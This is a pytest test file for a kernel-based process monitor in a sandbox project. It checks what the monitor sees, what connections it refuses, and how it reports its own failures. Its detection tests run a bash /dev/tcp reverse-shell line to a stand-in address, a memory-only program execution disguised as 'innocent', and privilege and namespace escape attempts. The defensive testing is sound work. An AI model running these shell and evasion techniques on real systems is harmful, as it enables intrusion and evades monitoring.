"""The monitor on this kernel: what it sees, what it refuses, and that it is never silent about what it lost."""

from __future__ import annotations

import hashlib
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from host_cell import Cell, MakeCell, need

from vestibule.boundary.host import events
from vestibule.boundary.host.behaviours import shipped
from vestibule.boundary.host.events import parse
from vestibule.boundary.host.monitor import Monitor
from vestibule.boundary.host.rules import Match
from vestibule.boundary.host.seen import Standing
from vestibule.core.errors import DependencyDown
from vestibule.sandbox.local.limits import v2_folder

BASH = "/bin/bash"


def records(path: Path) -> list[events.Event]:
    """The kept event stream, read as documented: each record after its length."""
    data, found = path.read_bytes(), []
    while data:
        size = int.from_bytes(data[:4], "little")
        found.append(parse(data[4 : 4 + size], os.uname().machine))
        data = data[4 + size :]
    return found


def test_a_probe_proves_it_and_the_rung_is_named(monitor: Monitor) -> None:
    standing = monitor.standing()
    assert standing.rung == "tracepoints"
    assert "exec, write, unlink and connects" in standing.proved_by


def test_an_exec_is_seen_with_arguments_and_the_digest_of_the_very_file(cell: Cell, tmp_path: Path) -> None:
    program = tmp_path / "renamed"
    program.write_bytes(Path("/bin/true").read_bytes())
    program.chmod(0o755)
    cell.run(str(program), "one", "two words")
    summary = cell.close()
    found = next(item for item in summary.programs if item.path == str(program))
    assert found.sha256 == hashlib.sha256(program.read_bytes()).hexdigest()
    seen = [item for item in records(cell.file) if item.kind == events.EXEC]
    assert (str(program), "one", "two words") in [item.arguments for item in seen]


def test_the_loader_trick_and_a_memory_file_are_seen_as_what_they_are(cell: Cell) -> None:
    loader = next(
        str(path) for path in (Path("/lib64/ld-linux-x86-64.so.2"), Path("/lib/ld-linux-aarch64.so.1")) if path.exists()
    )
    cell.run(loader, "/bin/true")
    code = (
        "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); "
        "os.execve(fd, ['innocent'], {})"
    )
    cell.run(sys.executable, "-I", "-S", "-c", code)
    cell.close()
    seen = {(Path(item.path).name, item.arguments[-1]) for item in records(cell.file) if item.kind == events.EXEC}
    assert any(name.startswith("ld-") or "ld" in name for name, last in seen if last == "/bin/true")
    assert [match.behaviour for match in cell.matches].count("memory-only-program") == 1


def test_written_files_are_told_by_the_kernels_path_through_links_and_moves(cell: Cell, tmp_path: Path) -> None:
    root = tmp_path / "made"
    (root / "real").mkdir(parents=True)
    (root / "link").symlink_to("real")
    script = (
        f"cd {root}; echo a > link/file; mv link/file moved; ln moved hard; rm hard; mkdir d; echo b > d/x; mv d e; "
        ": > cut; truncate -s 3 cut"
    )
    cell.run("/bin/sh", "-c", script)
    summary = cell.close()
    assert f"{root}/real/file" in summary.writes
    assert {f"{root}/moved", f"{root}/hard", f"{root}/e"} <= set(summary.moved)
    assert {f"{root}/link/file", f"{root}/hard", f"{root}/d"} <= set(summary.gone)
    assert summary.drops == 0


def test_long_paths_and_arguments_say_that_they_were_cut(cell: Cell, tmp_path: Path) -> None:
    deep = tmp_path / "made" / "/".join(["d" * 60] * 30)
    deep.mkdir(parents=True)
    cell.run("/bin/sh", "-c", f"cd {deep} && echo x > {'f' * 200}")
    deeper = tmp_path / "made" / "/".join(["e"] * 80)
    deeper.mkdir(parents=True)
    cell.run("/bin/sh", "-c", f"echo x > {deeper}/file")
    cell.run("/bin/true", "x" * 5000)
    cell.close()
    seen = records(cell.file)
    assert any(item.path == f"{deep}/{'f' * 200}" and not item.flags & events.CUT for item in seen)
    assert any(item.kind == events.WRITE and item.path.endswith("/file") and item.flags & events.CUT for item in seen)
    assert any(
        item.kind == events.EXEC and item.flags & events.CUT and "x" * 900 in item.arguments[-1] for item in seen
    )


def test_a_watched_group_reaches_loopback_only_and_every_try_is_told(cell: Cell) -> None:
    code = """
import socket
outside = ((2, 1, '203.0.113.9'), (2, 2, '203.0.113.9'), (10, 1, '2001:db8::9'), (10, 2, '::ffff:203.0.113.9'))
for family, kind, address in outside:
    with socket.socket(family, kind) as s:
        try: s.connect((address, 9)); raise SystemExit(3)
        except PermissionError: pass
for family, address in ((2, '203.0.113.9'), (10, '2001:db8::9')):
    with socket.socket(family, 2) as s:
        try: s.sendto(b'x', (address, 9)); raise SystemExit(4)
        except PermissionError: pass
with socket.socket(2, 1) as s:
    s.settimeout(5)
    try: s.sendto(b'x', 0x20000000, ('203.0.113.9', 9)); raise SystemExit(5)
    except PermissionError: pass
listener = socket.create_server(('127.0.0.1', 0))
socket.create_connection(listener.getsockname()).close()
with socket.socket(2, 1) as s:
    s.setblocking(False)
    try: s.connect(('127.0.0.1', 1))
    except OSError: pass
print(listener.getsockname()[1])
"""
    with cell.start(sys.executable, "-I", "-c", code, stdout=subprocess.PIPE) as process:
        out, _ = process.communicate(timeout=30)
    assert process.returncode == 0
    summary = cell.close()
    refused = {(item.protocol, item.address) for item in summary.connects if item.refused}
    assert {("tcp", "203.0.113.9"), ("udp", "203.0.113.9"), ("tcp", "2001:db8::9"), ("udp", "2001:db8::9")} <= refused
    met = [(item.address, item.port, item.count) for item in summary.connects if not item.refused]
    assert met == [("127.0.0.1", int(out), 1)], "what came about is told once, and what did not come about is not"


def test_attempts_at_users_namespaces_and_roots_are_told_although_they_fail(cell: Cell) -> None:
    code = """
import os
for call in (lambda: os.setuid(12345), lambda: os.chroot('/nowhere')):
    try: call()
    except OSError: pass
"""
    cell.run(sys.executable, "-I", "-S", "-c", code)
    cell.run("/usr/bin/unshare", "-m", "/bin/true")
    cell.close()
    calls = {item.call: item.result for item in records(cell.file) if item.kind == events.CALL}
    assert {"setuid", "chroot", "unshare"} <= set(calls)
    assert calls["chroot"] < 0
    assert "privileges" in {match.behaviour for match in cell.matches}


def test_a_process_outside_the_group_is_not_looked_at(cell: Cell, tmp_path: Path) -> None:
    subprocess.run(["/bin/sh", "-c", f"echo x > {tmp_path}/not-seen"], check=True)
    cell.run("/bin/true")
    assert f"{tmp_path}/not-seen" not in cell.close().writes


def test_a_reverse_shell_is_told_within_a_second_at_the_95th_percentile(monitor: Monitor, make_cell: MakeCell) -> None:
    cell = make_cell(monitor)
    delays = []
    for number in range(20):
        cell.told.clear()
        process = cell.start(
            BASH, "-c", f"exec 3<>/dev/tcp/203.0.113.5/{4000 + number}; sleep 30", stderr=subprocess.DEVNULL
        )
        assert cell.told.wait(10)
        process.kill()
        delays.append(time.clock_gettime_ns(time.CLOCK_BOOTTIME) - cell.matches[-1].time)
        process.wait()
    cell.close()
    assert {match.behaviour for match in cell.matches} >= {"shell-connects"}
    assert sorted(delays)[18] < 1_000_000_000


def test_the_digest_names_exactly_the_kept_stream(cell: Cell) -> None:
    cell.run("/bin/sh", "-c", "true; /bin/true")
    summary = cell.close()
    assert summary.sha256 == hashlib.sha256(cell.file.read_bytes()).hexdigest()
    assert summary.count == len(records(cell.file))
    assert cell.file.stat().st_mode & 0o777 == 0o600


@pytest.fixture
def own_monitor():
    """One that a test may break."""
    made: list[Monitor] = []

    def make(ring_bytes: int = 0, **more) -> Monitor:
        made.append(Monitor(lambda: shipped().as_data(), v2_folder, ring_bytes=ring_bytes, **more))
        need(made[-1])
        return made[-1]

    yield make
    for monitor in made:
        monitor.stop()


STORM = "import os\nfor i in range(60000): os.close(os.open('/tmp', os.O_RDWR | 0o20200000, 0o600))"


def test_a_ring_that_overflows_is_told_and_never_silent(own_monitor, make_cell: MakeCell) -> None:
    monitor = own_monitor(ring_bytes=4096 * 2)
    cell = make_cell(monitor)
    os.kill(monitor.pid, signal.SIGSTOP)
    try:
        cell.run(sys.executable, "-I", "-S", "-c", STORM.replace("60000", "2000"))
    finally:
        os.kill(monitor.pid, signal.SIGCONT)
    assert cell.told.wait(10)
    assert "lost" in cell.down[0]
    summary = cell.close()
    assert summary.drops > 0
    assert summary.count + summary.drops >= 2000


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGSEGV])
def test_a_monitor_that_dies_is_told_at_once(own_monitor, make_cell: MakeCell, number: int) -> None:
    monitor = own_monitor()
    cell = make_cell(monitor)
    os.kill(monitor.pid, number)
    assert cell.told.wait(5)
    assert cell.down == ["the monitor died"]
    assert monitor.standing() == Standing(rung="none", proved_by="the monitor died")
    with pytest.raises(DependencyDown, match="does not watch") as refused:
        cell.watch.close()
    assert refused.value.refusal.rule == "dependency.monitor"


def test_a_monitor_that_is_stopped_counts_as_dead(
    own_monitor, make_cell: MakeCell, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("vestibule.boundary.host.monitor.SILENCE_SECONDS", 1.0)
    monitor = own_monitor()
    cell = make_cell(monitor)
    os.kill(monitor.pid, signal.SIGSTOP)
    assert cell.told.wait(8)
    assert "said nothing" in cell.down[0]
    assert not Path(f"/proc/{monitor.pid}/exe").exists(), "it is ended, not left behind stopped"


def test_a_clock_that_jumps_changes_nothing(own_monitor, make_cell: MakeCell, monkeypatch: pytest.MonkeyPatch) -> None:
    monitor = own_monitor()
    cell = make_cell(monitor)
    monkeypatch.setattr(time, "time", lambda: 4_000_000_000.0)
    cell.run("/bin/true")
    assert cell.close().count > 0
    assert not cell.down


@pytest.mark.parametrize("rungs", ["(_programs, _files)", "(_programs,)"])
def test_programs_that_the_kernel_refuses_are_no_monitor(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, rungs: str
) -> None:
    """With the second rung it is that one; without, none. Either way it says what was refused."""
    if os.geteuid() != 0:
        pytest.skip("only root loads programs")
    broken = tmp_path / "bpf"
    broken.mkdir()
    (broken / f"monitor.{os.uname().machine}.o").write_bytes(b"\x7fELF" + bytes(100))
    source = Path(sys.modules[Monitor.__module__].__file__ or "").parent
    text = (source / "worker.py").read_text()
    assert "(_programs, _files)" in text
    (tmp_path / "worker.py").write_text(text.replace("(_programs, _files)", rungs))
    monkeypatch.setattr("vestibule.boundary.host.monitor._HERE", tmp_path)
    monitor = Monitor(list, v2_folder)
    standing = monitor.standing()
    assert standing.rung == ("fanotify" if "_files" in rungs else "none")
    assert "cannot be opened" in standing.proved_by
    if not standing.up:
        with pytest.raises(DependencyDown):
            monitor.watch("x", writable=(), on_match=lambda _: None, on_down=lambda _: None)
    monitor.stop()


def test_without_root_there_is_no_monitor_and_it_says_why(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    standing = Monitor(list, v2_folder).standing()
    assert (standing.rung, standing.up) == ("none", False)
    assert "not root" in standing.proved_by


def test_a_worker_that_hangs_is_given_up(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root gets as far")
    (tmp_path / "bpf").mkdir()
    (tmp_path / "bpf" / f"monitor.{os.uname().machine}.o").write_bytes(b"")
    (tmp_path / "worker.py").write_text("import time\ntime.sleep(600)\n")
    monkeypatch.setattr("vestibule.boundary.host.monitor._HERE", tmp_path)
    monkeypatch.setattr("vestibule.boundary.host.monitor.START_SECONDS", 0.3)
    monitor = Monitor(list, v2_folder)
    assert "did not answer" in monitor.standing().proved_by
    assert not Path(f"/proc/{monitor.pid}/exe").exists()


def test_a_match_that_cannot_be_decided_ends_the_watch(cell: Cell) -> None:
    def broken(_: Match) -> None:
        cell.told.set()
        raise RuntimeError

    cell.watch.on_match = broken
    cell.run(BASH, "-c", "exec 3<>/dev/tcp/203.0.113.5/1", stderr=subprocess.DEVNULL)
    cell.close()
    assert cell.down == ["a match could not be decided: RuntimeError"]


def test_the_shipped_programs_are_what_the_source_gives() -> None:
    sys.path.insert(0, "tools")
    try:
        import build_bpf
    finally:
        sys.path.pop(0)
    if not build_bpf.tools():
        if os.environ.get("CI"):
            pytest.fail("clang-14, llvm-14 and libbpf-dev are needed to build the BPF programs")
        pytest.skip("clang-14, llvm-14 and libbpf-dev are needed to build the BPF programs")
    done = subprocess.run(
        [sys.executable, "tools/build_bpf.py", "--check"], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
